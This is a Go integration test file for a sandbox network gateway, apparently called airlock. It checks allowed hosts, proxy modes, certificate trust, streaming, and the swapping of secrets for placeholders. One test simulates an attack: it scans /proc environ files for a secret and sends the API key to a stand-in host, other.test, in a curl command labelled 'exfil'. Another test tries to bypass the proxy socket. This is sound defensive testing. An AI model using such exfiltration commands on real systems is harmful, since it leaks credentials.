//go:build linux

package main

// Network tests: real clients inside the sandbox (curl, python3, git) reach
// a real HTTPS server on loopback through airlock's gateway. The server sits
// on port 443 of a loopback address of its own (the gateway intercepts ports
// 80 and 443 only), which takes root to bind: as root the test starts it;
// the unprivileged re-run gets the one its root parent started (see
// TestUnprivileged), so both kinds of user are covered.

import (
	"cmp"
	"crypto/sha1"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/config"
	"github.com/airlock-dev/airlock/internal/engine"
	"github.com/airlock-dev/airlock/internal/testutil"
)

// upstream is the HTTPS server the sandbox talks to. Its certificate is
// httptest's (valid for example.com), and it logs each request's
// Authorization header to a file so tests can see what really left.
type upstream struct {
	addr, caFile, logFile string
}

// upstreamAddr can be moved (AIRLOCK_TEST_UPSTREAM_LISTEN) when another
// run of the suite on the machine holds it.
var upstreamAddr = cmp.Or(os.Getenv("AIRLOCK_TEST_UPSTREAM_LISTEN"), "127.0.0.3:443")

var (
	upstreamOnce sync.Once
	upstreamInfo *upstream
	upstreamErr  error
)

func testUpstream(t *testing.T) *upstream {
	t.Helper()
	if a := os.Getenv("AIRLOCK_TEST_UPSTREAM"); a != "" {
		return &upstream{addr: a, caFile: os.Getenv("AIRLOCK_TEST_UPSTREAM_CA"), logFile: os.Getenv("AIRLOCK_TEST_UPSTREAM_LOG")}
	}
	if os.Getuid() != 0 {
		t.Skip("binding the test server's port 443 needs root (run the suite as root: it re-runs these tests unprivileged)")
	}
	upstreamOnce.Do(func() { upstreamInfo, upstreamErr = startUpstream() })
	if upstreamErr != nil {
		t.Fatal(upstreamErr)
	}
	return upstreamInfo
}

// startUpstream serves HTTPS on upstreamAddr for the whole test binary: an
// echo of the Authorization header, and git's smart HTTP for /git/.
func startUpstream() (*upstream, error) {
	dir, err := os.MkdirTemp("", "airlock-upstream-")
	if err != nil {
		return nil, err
	}
	os.Chmod(dir, 0o755)
	u := &upstream{addr: upstreamAddr, caFile: filepath.Join(dir, "ca.pem"), logFile: filepath.Join(dir, "received.log")}
	logf, err := os.OpenFile(u.logFile, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	repo := filepath.Join(dir, "git", "demo.git")
	work := filepath.Join(dir, "work")
	for _, args := range [][]string{
		{"init", "-q", "--bare", repo},
		{"init", "-q", work},
		{"-C", work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "hello from upstream"},
		{"-C", work, "push", "-q", repo, "HEAD:refs/heads/main"},
		{"-C", repo, "symbolic-ref", "HEAD", "refs/heads/main"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			return nil, fmt.Errorf("git %v: %v: %s", args, err, out)
		}
	}
	var mu sync.Mutex
	mux := http.NewServeMux()
	mux.Handle("/git/", &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Root: "/git",
		Env: []string{"GIT_PROJECT_ROOT=" + filepath.Join(dir, "git"), "GIT_HTTP_EXPORT_ALL=1"}})
	mux.HandleFunc("/sse", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "data: one\n\n")
		w.(http.Flusher).Flush()
		time.Sleep(time.Second) // the first event must not wait for this
		io.WriteString(w, "data: two\n\n")
	})
	mux.HandleFunc("/ws", wsEcho)
	mux.Handle("/pypi/", pypiIndex()) // see runtimes_e2e_test.go
	mux.HandleFunc("/bytes/", func(w http.ResponseWriter, r *http.Request) {
		n, _ := strconv.ParseInt(strings.TrimPrefix(r.URL.Path, "/bytes/"), 10, 64)
		w.Header().Set("Content-Length", strconv.FormatInt(n, 10))
		buf := make([]byte, 256<<10)
		for ; n > 0; n -= int64(len(buf)) {
			if _, err := w.Write(buf[:min(n, int64(len(buf)))]); err != nil {
				return
			}
		}
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		fmt.Fprintf(logf, "%s %s %s\n", r.Method, r.URL.Path, r.Header.Get("Authorization"))
		mu.Unlock()
		fmt.Fprintf(w, "echo %s\n", r.Header.Get("Authorization"))
	})
	ln, err := net.Listen("tcp", upstreamAddr)
	if err != nil {
		return nil, err
	}
	srv := httptest.NewUnstartedServer(mux)
	srv.Listener.Close()
	srv.Listener = ln
	srv.EnableHTTP2 = true
	srv.StartTLS()
	// The same handlers in clear on port 80, for plain HTTP.
	plain, err := net.Listen("tcp", strings.Replace(upstreamAddr, ":443", ":80", 1))
	if err != nil {
		return nil, err
	}
	go http.Serve(plain, mux)
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.TLS.Certificates[0].Certificate[0]})
	if err := os.WriteFile(u.caFile, ca, 0o644); err != nil {
		return nil, err
	}
	return u, nil
}

// wsEcho answers a WebSocket upgrade and echoes one short text frame,
// followed by the upgrade's Authorization header, if any (which the gateway
// must scrub on its way back).
func wsEcho(w http.ResponseWriter, r *http.Request) {
	if !strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
		http.Error(w, "want a websocket upgrade", http.StatusBadRequest)
		return
	}
	sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
	c, brw, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n", base64.StdEncoding.EncodeToString(sum[:]))
	head := make([]byte, 2)
	if _, err := io.ReadFull(brw, head); err != nil || head[1]&0x7f > 125 {
		return
	}
	mask := make([]byte, 4)
	body := make([]byte, head[1]&0x7f)
	io.ReadFull(brw, mask)
	io.ReadFull(brw, body)
	for i := range body {
		body[i] ^= mask[i%4]
	}
	if a := r.Header.Get("Authorization"); a != "" {
		body = fmt.Appendf(body, " auth=%s", a)
	}
	if r.Header.Get("Sec-WebSocket-Extensions") != "" {
		body = append(body, " (extensions offered)"...)
	}
	c.Write(append([]byte{0x81, byte(min(len(body), 125))}, body[:min(len(body), 125)]...))
}

// childEnv hands a re-run of the suite (another uid, another backend) what
// only root could set up: the upstream on port 443 and the built netclient.
func (u *upstream) childEnv(t *testing.T) []string {
	env := []string{"AIRLOCK_TEST_UPSTREAM=" + u.addr, "AIRLOCK_TEST_UPSTREAM_CA=" + u.caFile, "AIRLOCK_TEST_UPSTREAM_LOG=" + u.logFile}
	if bin, err := netclientBin(); err == nil {
		env = append(env, "AIRLOCK_TEST_NETCLIENT="+bin)
	} else {
		t.Log(err)
	}
	if bin, err := mcpclientBin(); err == nil {
		env = append(env, "AIRLOCK_TEST_MCPCLIENT="+bin)
	} else {
		t.Log(err)
	}
	return env
}

func (u *upstream) received(t *testing.T) string {
	b, err := os.ReadFile(u.logFile)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func (u *upstream) flags(extra ...string) []string {
	return append([]string{"run", "-q", "--add-host", "example.com:" + strings.Split(u.addr, ":")[0], "--upstream-ca", u.caFile}, extra...)
}

// networkModes are the doors this user's sandboxes can take: both where the
// TAP device can be made (root here), else the proxy only.
func networkModes() []string {
	if testBackend() == "vm" { // a VM always has its link; no proxy door reaches into it
		return []string{config.ModeTransparent}
	}
	if testBackend() == "kubernetes" { // a Pod has only the proxy door, relayed
		return []string{config.ModeProxy}
	}
	if mode, _ := engine.NetworkMode(); mode == config.ModeTransparent {
		return []string{config.ModeTransparent, config.ModeProxy}
	}
	return []string{config.ModeProxy}
}

// eachMode runs f once per network mode, as a subtest.
func eachMode(t *testing.T, f func(t *testing.T, mode string)) {
	for _, m := range networkModes() {
		t.Run(m, func(t *testing.T) { f(t, m) })
	}
}

func needTransparent(t *testing.T) {
	t.Helper()
	if testBackend() == "vm" {
		return
	}
	if mode, why := engine.NetworkMode(); mode != config.ModeTransparent {
		t.Skip("no transparent network for this user: " + why)
	}
}

func TestClientsInsideReachAllowedHostsThroughTheGateway(t *testing.T) {
	u := testUpstream(t)
	eachMode(t, func(t *testing.T, mode string) {
		e := newEnv(t)
		script := `
		curl -sS --http2 https://example.com/curl
		curl -sS http://example.com/plain
		python3 -c 'import urllib.request; print(urllib.request.urlopen("https://example.com/python").read().decode().strip())'
		git clone -q https://example.com/git/demo.git clone && git -C clone log --format=%s
		curl -sS -o /dev/null -w "other.test %{http_connect} %{exitcode}\n" https://other.test/ 2>/dev/null
		curl -sS -o /dev/null -w "port 8443 %{http_connect} %{exitcode}\n" https://example.com:8443/ 2>/dev/null
		true`
		want := []string{"echo \necho \necho\n", "hello from upstream"}
		if mode == config.ModeTransparent {
			// No proxy: a refused name does not resolve (curl: 6), a refused
			// port is reset (7), and clients that ignore HTTPS_PROXY work.
			want = append(want, "other.test 000 6", "port 8443 000 7")
			if node, err := exec.LookPath("node"); err == nil && testBackend() != "vm" { // a VM has its image's programs, not the host's
				script = node + ` -e 'fetch("https://example.com/node").then(r => r.text()).then(t => console.log("node", t.trim()))'` + script
				want = append(want, "node echo")
			} else {
				t.Log("node is not installed: fetch from Node.js not tried")
			}
		} else {
			want = append(want, "other.test 403 56", "port 8443 403 56")
		}
		r := e.run(append(u.flags("--network-mode", mode, "--allow-host", "example.com"), "--", "sh", "-c", script)...)
		for _, w := range want {
			if !strings.Contains(r.stdout, w) {
				t.Errorf("missing %q in %v", w, r)
			}
		}
	})
}

// The proxy door's socket is mounted inside the sandbox, where the guest's
// relay hands the gateway each accepted TCP connection's descriptor. A
// process that uses the socket itself, with the proxy's token in plain
// bytes or with descriptors of its own (a pipe, a Unix socket, a UDP
// socket), is served nothing; the door still works after.
func TestTheProxySocketServesOnlyHandedOverConnections(t *testing.T) {
	if testBackend() == "vm" {
		t.Skip("a VM has no proxy door")
	}
	u := testUpstream(t)
	e := newEnv(t)
	r := e.run(append(u.flags("--network-mode", config.ModeProxy, "--allow-host", "example.com"), "--", "python3", "-c", `
import base64, os, socket, urllib.parse, urllib.request
p = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
auth = base64.b64encode(f"{p.username}:{p.password}".encode()).decode()
request = f"GET http://example.com/plain HTTP/1.1\r\nHost: example.com\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode()
def direct(name, fds):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(10)
    s.connect("/run/airlock/proxy.sock")
    try:
        if fds:
            socket.send_fds(s, [b"\0"], fds)
        s.sendall(request)
        got = s.recv(100)
    except OSError:
        got = b""
    print(name, "served" if got else "refused")
pr, pw = os.pipe()
a, b = socket.socketpair()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
direct("bytes", [])
direct("pipe", [pr])
direct("unix", [a.fileno()])
direct("udp", [udp.fileno()])
print("relay", urllib.request.urlopen("http://example.com/plain").read().decode().strip())
`)...)
	if r.code != 0 {
		t.Fatalf("the script inside failed: %v", r)
	}
	for _, want := range []string{"bytes refused", "pipe refused", "unix refused", "udp refused", "relay echo"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("missing %q in %v", want, r)
		}
	}
}

// Without --upstream-ca the gateway verifies upstream certificates against
// the host's roots (loaded at the first handshake, not at the start): the
// test upstream's own CA is not among them, so it is refused (502); with the
// flag (the positive control), the same request goes through.
func TestAnUpstreamTheHostsRootsDoNotTrustIsRefused(t *testing.T) {
	u := testUpstream(t)
	eachMode(t, func(t *testing.T, mode string) {
		e := newEnv(t)
		script := `curl -sS -o /dev/null -w "%{http_code}\n" https://example.com/curl 2>/dev/null; true`
		trusted := e.run(append(u.flags("--network-mode", mode, "--allow-host", "example.com"), "--", "sh", "-c", script)...)
		if strings.TrimSpace(trusted.stdout) != "200" {
			t.Fatalf("with --upstream-ca: %v", trusted)
		}
		r := e.run("run", "-q", "--network-mode", mode, "--add-host", "example.com:"+strings.Split(u.addr, ":")[0],
			"--allow-host", "example.com", "--", "sh", "-c", script)
		if code := strings.TrimSpace(r.stdout); code != "502" || r.code != 0 {
			t.Fatalf("an upstream the host does not trust: want the gateway's 502, got HTTP %s: %v", code, r)
		}
	})
}

func TestSecretsNeverEnterTheSandbox(t *testing.T) {
	u := testUpstream(t)
	eachMode(t, func(t *testing.T, mode string) {
		e := newEnv(t)
		real := fmt.Sprintf("sk-canary-%d-value", os.Getpid())
		c := e.cmd(append(u.flags("--network-mode", mode, "--secret", "API_KEY@example.com", "--allow-host", "other.test", "--add-host", "other.test:"+strings.Split(u.addr, ":")[0]), "--", "sh", "-c", `
		echo "env: $API_KEY"
		grep -als sk-canary /proc/[0-9]*/environ
		curl -sS https://example.com/with-secret -H "Authorization: Bearer $API_KEY"
		curl -sS -o /dev/null -w "exfil %{http_code}\n" "https://other.test/?k=$API_KEY" 2>/dev/null
		true`)...)
		c.Env = e.environ("API_KEY=" + real)
		r := e.runCmd(c)
		if strings.Contains(r.stdout, real) {
			t.Fatalf("the real value reached the sandbox: %v", r)
		}
		ph := ""
		if _, rest, ok := strings.Cut(r.stdout, "env: "); ok {
			ph, _, _ = strings.Cut(rest, "\n")
		}
		if !strings.HasPrefix(ph, "airlock-ph-") {
			t.Fatalf("the sandbox should see a placeholder: %v", r)
		}
		// The upstream echoes the header it got (the real value): the
		// response must come back with the placeholder in its place, not
		// merely without the real value (which a dropped response also is).
		if !strings.Contains(r.stdout, "echo Bearer "+ph+"\n") {
			t.Errorf("the echoed secret should come back as the placeholder %q: %v", ph, r)
		}
		if got := u.received(t); !strings.Contains(got, "GET /with-secret Bearer "+real) {
			t.Errorf("upstream should have received the real value; it logged:\n%s", got)
		}
		if !strings.Contains(r.stdout, "exfil 403") {
			t.Errorf("a placeholder toward another host should be refused with 403: %v", r)
		}
		if strings.Contains(r.stdout, "/environ") {
			t.Errorf("a process inside has the value in its environment: %v", r)
		}
	})
}

// netclientBin is testdata/netclient built for use inside the sandbox.
var netclientBin = sync.OnceValues(func() (string, error) {
	if b := os.Getenv("AIRLOCK_TEST_NETCLIENT"); b != "" {
		return b, nil
	}
	out := filepath.Join(filepath.Dir(airlockBin), "netclient")
	build := exec.Command("go", "build", "-o", out, "./testdata/netclient")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if b, err := build.CombinedOutput(); err != nil {
		return "", fmt.Errorf("build netclient: %v\n%s", err, b)
	}
	return out, nil
})

// A Go net/http program inside the sandbox: plain requests, server-sent
// events that arrive as they are sent, a WebSocket echo, and a large
// download during which the supervisor's memory stays flat.
func TestGoClientStreamsEventsWebSocketsAndLargeBodies(t *testing.T) {
	u := testUpstream(t)
	built, err := netclientBin()
	if err != nil {
		t.Fatal(err)
	}
	eachMode(t, func(t *testing.T, mode string) {
		e := newEnv(t)
		bin := filepath.Join(e.ws, "netclient") // the sandbox's /tmp is its own: put it in the workspace
		if err := testutil.CopyFile(built, bin); err != nil {
			t.Fatal(err)
		}
		r := e.run(append(u.flags("--network-mode", mode, "--allow-host", "example.com"), "--", "sh", "-c",
			bin+" get https://example.com/go && "+bin+" sse https://example.com/sse && "+bin+" ws https://example.com/ws")...)
		if r.code != 0 || !strings.Contains(r.stdout, "200 echo") || !strings.Contains(r.stdout, "echo hello over websocket") {
			t.Fatalf("go client: %v", r)
		}
		// With a secret for the host, the upgrade still passes (it failed
		// with 502 once), the placeholder in its header goes out as the
		// value, the echo comes back with the placeholder, and the
		// compression offer was withdrawn.
		real := fmt.Sprintf("sk-ws-canary-%d", os.Getpid())
		c := e.cmd(append(u.flags("--network-mode", mode, "--allow-host", "example.com", "--secret", "WS_TOKEN@example.com"), "--", "sh", "-c",
			bin+` ws https://example.com/ws; echo "placeholder $WS_TOKEN"`)...)
		c.Env = e.environ("WS_TOKEN=" + real)
		ws := e.runCmd(c)
		ph := ""
		if _, rest, ok := strings.Cut(ws.stdout, "placeholder "); ok {
			ph, _, _ = strings.Cut(rest, "\n")
		}
		if ws.code != 0 || !strings.HasPrefix(ph, "airlock-ph-") || !strings.Contains(ws.stdout, "echo hello over websocket auth=Bearer "+ph+"\n") || strings.Contains(ws.stdout, real) {
			t.Fatalf("websocket with a secret: want the echo with the placeholder %q, not the value, and no extension offered: %v", ph, ws)
		}
		var events, first, end int
		fmt.Sscanf(r.stdout[strings.Index(r.stdout, "events"):], "events %d first %dms end %dms", &events, &first, &end)
		// The server sleeps a second between its two events: streamed, the
		// first arrives about a second before the end, however slow the
		// machine is to set the request up; buffered, both arrive together.
		if events != 2 || end-first < 700 || end < 900 {
			t.Errorf("SSE: %d events, first after %d ms, end after %d ms: the first event must arrive before the stream ends (%v)", events, first, end, r)
		}

		// The supervisor (gateway included) streams: its memory does not grow
		// with the body. The baseline is a small download in the same test.
		peakRSS := func(size int) int64 {
			c := e.cmd(append(u.flags("--network-mode", mode, "--allow-host", "example.com"), "--", bin, "download", fmt.Sprintf("https://example.com/bytes/%d", size))...)
			var out strings.Builder
			c.Stdout, c.Stderr = &out, &out
			if err := c.Start(); err != nil {
				t.Fatal(err)
			}
			peak := int64(0)
			done := make(chan error, 1)
			go func() { done <- c.Wait() }()
			tick := time.NewTicker(20 * time.Millisecond)
			defer tick.Stop()
			for {
				select {
				case err := <-done:
					if err != nil {
						t.Fatalf("download: %v: %s", err, out.String())
					}
					if !strings.Contains(out.String(), fmt.Sprintf("downloaded %d", size)) {
						t.Fatalf("download: %s", out.String())
					}
					return peak
				case <-tick.C:
					peak = max(peak, rssKiB(c.Process.Pid))
				}
			}
		}
		const small, large = 16 << 20, 512 << 20
		base, peak := peakRSS(small), peakRSS(large)
		if peak-base > 48<<10 {
			t.Errorf("supervisor peak RSS %d MiB during a %d MiB download, %d MiB during a %d MiB one: it grows with the body", peak>>10, large>>20, base>>10, small>>20)
		}
		t.Logf("%s: supervisor peak RSS %d MiB during a %d MiB download (%d MiB for %d MiB)", mode, peak>>10, large>>20, base>>10, small>>20)
	})
}

func rssKiB(pid int) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			n, _ := strconv.ParseInt(f[1], 10, 64)
			return n
		}
	}
	return 0
}
